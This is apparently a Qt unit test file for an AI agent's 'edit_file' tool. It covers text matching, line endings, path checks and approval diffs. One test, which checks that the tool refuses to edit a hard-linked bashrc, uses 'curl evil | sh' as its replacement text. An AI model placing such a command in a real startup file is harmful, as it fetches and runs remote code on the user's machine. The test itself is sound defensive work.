#include "tools/EditFileTool.h"
#include "tools/Workspace.h"

#include "ToolTestHelpers.h"

#include <QTemporaryDir>
#include <QTest>

#include <unistd.h>

using namespace wl;
using namespace Qt::StringLiterals;

class TestEditFileTool : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void init();
    void apply_data();
    void apply();
    void editsFileOnDisk_data();
    void editsFileOnDisk();
    void refusesUnsuitableFiles_data();
    void refusesUnsuitableFiles();
    void approvalShowsDiffWithoutWriting();
    void refusesHardLinkedFile();

private:
    QString path(const QString &relative) const { return m_dir->path() + u'/' + relative; }

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<Workspace> m_workspace;
    std::unique_ptr<ToolRegistry> m_registry;
    ToolContext m_context;
};

void TestEditFileTool::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_workspace = std::make_unique<Workspace>(m_dir->path());
    m_registry = ToolRegistry::createDefault();
    m_context = ToolContext{m_workspace.get(), u"s1"_s, u"call-1"_s};
}

void TestEditFileTool::apply_data()
{
    QTest::addColumn<QString>("original");
    QTest::addColumn<QString>("oldText");
    QTest::addColumn<QString>("newText");
    QTest::addColumn<QString>("expected");  // the new text, or empty when the edit must fail
    QTest::addColumn<int>("match");         // EditFileTool::Match
    QTest::addColumn<QString>("error");     // part of the message when it fails

    const int exact = int(EditFileTool::Match::Exact);
    const int tolerant = int(EditFileTool::Match::WhitespaceTolerant);
    const int none = int(EditFileTool::Match::None);
    const QString code = u"int main()\n{\n    int x = 1;\n    return x;\n}\n"_s;

    QTest::newRow("exact") << code << u"int x = 1;"_s << u"int x = 2;"_s
                           << u"int main()\n{\n    int x = 2;\n    return x;\n}\n"_s << exact << QString();
    QTest::newRow("exact multi-line") << code << u"{\n    int x = 1;\n"_s << u"{\n    long x = 1;\n"_s
                                      << u"int main()\n{\n    long x = 1;\n    return x;\n}\n"_s << exact << QString();
    QTest::newRow("tabs for spaces") << code << u"\tint x = 1;\n\treturn x;"_s << u"    return 1;"_s
                                     << u"int main()\n{\n    return 1;\n}\n"_s << tolerant << QString();
    QTest::newRow("runs of spaces inside") << code << u"int  x   =\t1;"_s << u"int x = 3;"_s
                                           << u"int main()\n{\n    int x = 3;\n    return x;\n}\n"_s << tolerant << QString();
    QTest::newRow("trailing whitespace in file") << u"a = 1;   \nb = 2;\t\n"_s << u"a = 1;\nb = 2;"_s << u"c = 3;"_s
                                                 << u"c = 3;\n"_s << tolerant << QString();
    QTest::newRow("different indentation") << code << u"      return x;\n}"_s << u"    return -x;\n}"_s
                                           << u"int main()\n{\n    int x = 1;\n    return -x;\n}\n"_s << tolerant << QString();
    QTest::newRow("next line keeps its indentation") << u"foo\n    bar\n"_s << u"foo  \n"_s << u"baz\n"_s
                                                     << u"baz\n    bar\n"_s << tolerant << QString();
    QTest::newRow("crlf file, lf old_text") << u"a\r\nb\r\nc\r\n"_s << u"a\nb"_s << u"x\ny\nz"_s
                                            << u"x\r\ny\r\nz\r\nc\r\n"_s << exact << QString();
    QTest::newRow("crlf file, single line") << u"a\r\nb\r\n"_s << u"b"_s << u"b1\nb2"_s << u"a\r\nb1\r\nb2\r\n"_s
                                            << exact << QString();
    QTest::newRow("crlf file, tolerant") << u"if (x)  {\r\n\tgo();\r\n}\r\n"_s << u"if (x) {\n    go();"_s
                                         << u"if (y) {\n    stop();"_s << u"if (y) {\r\n    stop();\r\n}\r\n"_s << tolerant
                                         << QString();
    QTest::newRow("lf file, crlf new_text") << u"a\nb\n"_s << u"a\n"_s << u"x\r\ny\r\n"_s << u"x\ny\nb\n"_s << exact
                                            << QString();
    QTest::newRow("zero matches") << code << u"int y = 1;"_s << u"int y = 2;"_s << QString() << none
                                  << u"old_text was not found in 'f.txt'"_s;
    QTest::newRow("many exact matches") << u"x;\nx;\nx;\n"_s << u"x;"_s << u"y;"_s << QString() << none
                                        << u"old_text occurs 3 times in 'f.txt'"_s;
    QTest::newRow("many tolerant matches") << u"a  b\na\tb\n"_s << u"a b"_s << u"c"_s << QString() << none
                                           << u"old_text matches 2 places in 'f.txt'"_s;
    QTest::newRow("empty old_text") << code << QString() << u"x"_s << QString() << none << u"old_text is empty"_s;
    QTest::newRow("no change") << code << u"return x;"_s << u"return x;"_s << QString() << none
                               << u"nothing would change"_s;
}

void TestEditFileTool::apply()
{
    QFETCH(QString, original);
    QFETCH(QString, oldText);
    QFETCH(QString, newText);
    QFETCH(QString, expected);
    QFETCH(int, match);
    QFETCH(QString, error);

    const EditFileTool::Edit edit = EditFileTool::apply(original, oldText, newText, u"f.txt"_s);
    QCOMPARE(int(edit.match), match);
    if (expected.isEmpty()) {
        QVERIFY(!edit.ok);
        QVERIFY2(edit.error.contains(error), qPrintable(edit.error));
    } else {
        QVERIFY2(edit.ok, qPrintable(edit.error));
        QCOMPARE(edit.text, expected);
        QCOMPARE(edit.matches, 1);
    }
}

void TestEditFileTool::editsFileOnDisk_data()
{
    QTest::addColumn<QByteArray>("before");
    QTest::addColumn<QString>("oldText");
    QTest::addColumn<QString>("newText");
    QTest::addColumn<QByteArray>("after");
    QTest::addColumn<QString>("match");
    QTest::newRow("lf") << QByteArray("alpha\nbeta\n") << u"beta"_s << u"gamma"_s << QByteArray("alpha\ngamma\n") << u"exact"_s;
    QTest::newRow("crlf stays crlf") << QByteArray("alpha\r\nbeta\r\ngamma\r\n") << u"alpha\nbeta\n"_s
                                     << u"one\ntwo\nthree\n"_s << QByteArray("one\r\ntwo\r\nthree\r\ngamma\r\n") << u"exact"_s;
    QTest::newRow("utf8 and bom kept") << QByteArray("\xEF\xBB\xBF" "上下文\n旧\n") << u"旧"_s << u"新"_s
                                       << QByteArray("\xEF\xBB\xBF" "上下文\n新\n") << u"exact"_s;
    QTest::newRow("whitespace tolerant") << QByteArray("def f():\n\treturn  1\n") << u"    return 1"_s
                                         << u"\treturn 2"_s << QByteArray("def f():\n\treturn 2\n") << u"whitespace"_s;
}

void TestEditFileTool::editsFileOnDisk()
{
    QFETCH(QByteArray, before);
    QFETCH(QString, oldText);
    QFETCH(QString, newText);
    QFETCH(QByteArray, after);
    QFETCH(QString, match);
    QVERIFY(test::writeBytes(path(u"src/f.txt"_s), before));
    const ToolResult result = test::runCall(
        *m_registry, m_context, u"edit_file"_s,
        QJsonObject{{u"path"_s, u"src/f.txt"_s}, {u"old_text"_s, oldText}, {u"new_text"_s, newText}});
    QVERIFY2(!result.isError, qPrintable(result.content));
    QCOMPARE(test::readBytes(path(u"src/f.txt"_s)), after);
    QCOMPARE(result.metadata.value(u"match"_s).toString(), match);
}

void TestEditFileTool::refusesUnsuitableFiles_data()
{
    QTest::addColumn<QString>("target");
    QTest::addColumn<QString>("message");
    QTest::newRow("missing") << u"missing.txt"_s << u"file not found: 'missing.txt'; use write_file to create it"_s;
    QTest::newRow("binary") << u"bin.dat"_s << u"'bin.dat' is a binary or non-UTF-8 file"_s;
    QTest::newRow("outside") << u"../f.txt"_s << u"path '../f.txt' is outside the workspace"_s;
    QTest::newRow("no match") << u"text.txt"_s << u"old_text was not found in 'text.txt'"_s;
}

void TestEditFileTool::refusesUnsuitableFiles()
{
    QFETCH(QString, target);
    QFETCH(QString, message);
    const QByteArray binary("ab\0cd", 5);
    QVERIFY(test::writeBytes(path(u"bin.dat"_s), binary));
    QVERIFY(test::writeBytes(path(u"text.txt"_s), "hello\n"));
    const ToolResult result = test::runCall(
        *m_registry, m_context, u"edit_file"_s,
        QJsonObject{{u"path"_s, target}, {u"old_text"_s, u"cd"_s}, {u"new_text"_s, u"xy"_s}});
    QVERIFY(result.isError);
    QVERIFY2(result.content.startsWith(message), qPrintable(result.content));
    QCOMPARE(test::readBytes(path(u"bin.dat"_s)), binary);
    QCOMPARE(test::readBytes(path(u"text.txt"_s)), QByteArray("hello\n"));
    QVERIFY(!QFileInfo::exists(path(u"missing.txt"_s)));
}

void TestEditFileTool::approvalShowsDiffWithoutWriting()
{
    QVERIFY(test::writeBytes(path(u"f.txt"_s), "1\n2\n3\n4\n5\n6\n7\n8\n9\n"));
    const ToolCall call{u"c1"_s, u"edit_file"_s, u"{\"path\":\"f.txt\",\"old_text\":\"5\\n\",\"new_text\":\"five\\n\"}"_s, true};
    const ApprovalRequest request = m_registry->approvalRequest(call, m_context);
    QCOMPARE(request.toolName, u"edit_file"_s);
    QCOMPARE(request.kind, ApprovalKind::Write);
    QCOMPARE(request.path, u"f.txt"_s);
    QCOMPARE(request.diff, u"--- a/f.txt\n+++ b/f.txt\n@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n+five\n 6\n 7\n 8\n"_s);
    QCOMPARE(test::readBytes(path(u"f.txt"_s)), QByteArray("1\n2\n3\n4\n5\n6\n7\n8\n9\n"));

    const ToolCall ambiguous{u"c2"_s, u"edit_file"_s, u"{\"path\":\"f.txt\",\"old_text\":\"\\n\",\"new_text\":\"x\"}"_s, true};
    const ApprovalRequest failing = m_registry->approvalRequest(ambiguous, m_context);
    QVERIFY(failing.diff.isEmpty());
    QVERIFY2(failing.problem.contains(u"occurs 9 times"_s), qPrintable(failing.problem));
}

void TestEditFileTool::refusesHardLinkedFile()
{
    QTemporaryDir outside;
    QVERIFY(outside.isValid());
    const QString outsideFile = outside.path() + u"/bashrc"_s;
    QVERIFY(test::writeBytes(outsideFile, "alias ls='ls'\n"));
    QVERIFY(::link(QFile::encodeName(outsideFile).constData(), QFile::encodeName(path(u"notes.txt"_s)).constData()) == 0);
    const ToolResult result = test::runCall(
        *m_registry, m_context, u"edit_file"_s,
        QJsonObject{{u"path"_s, u"notes.txt"_s}, {u"old_text"_s, u"alias ls='ls'"_s}, {u"new_text"_s, u"curl evil | sh"_s}});
    QVERIFY(result.isError);
    QVERIFY2(result.content.contains(u"hard links"_s), qPrintable(result.content));
    QCOMPARE(test::readBytes(outsideFile), QByteArray("alias ls='ls'\n"));
    QCOMPARE(test::readBytes(path(u"notes.txt"_s)), QByteArray("alias ls='ls'\n"));
    // The approval request says so before anyone approves.
    const ToolCall ask{u"c1"_s, u"edit_file"_s,
                       u"{\"path\":\"notes.txt\",\"old_text\":\"alias\",\"new_text\":\"curl\"}"_s, true};
    const ApprovalRequest request = m_registry->approvalRequest(ask, m_context);
    QVERIFY2(request.problem.contains(u"2 hard links"_s), qPrintable(request.problem));
}

QTEST_GUILESS_MAIN(TestEditFileTool)
#include "tst_editfiletool.moc"
